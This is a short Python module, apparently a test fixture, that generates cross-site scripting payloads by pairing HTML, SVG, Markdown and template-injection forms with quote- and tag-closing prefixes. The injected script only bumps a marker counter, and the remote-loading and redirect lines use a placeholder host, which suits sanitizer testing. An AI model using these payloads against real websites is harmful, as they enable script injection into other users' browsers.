"""Texts that would run if they were taken for markup: kinds of payload times ways out of a place."""

from itertools import product

RUN = "window.pwned=(window.pwned||0)+1"
KINDS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<object data='javascript:{RUN}'></object>",
    "<link rel=stylesheet href=https://example.invalid/x.css>",
    "<img src=https://example.invalid/x.png>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "<base href=https://example.invalid/>",
    "<style>@import 'https://example.invalid/x.css';</style>",
    "<form action=https://example.invalid/><button autofocus>x</button></form>",
    "![x](https://example.invalid/x.png)",
    f"[x](javascript:{RUN})",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<video><source onerror={RUN}></video>",
)
WAYS_OUT = ("", '">', "'>", "</script>", "</title></style></textarea>", "--><!-- ", "]]>", "</p></li></ol>")
PAYLOADS = [way + kind for way, kind in product(WAYS_OUT, KINDS)]
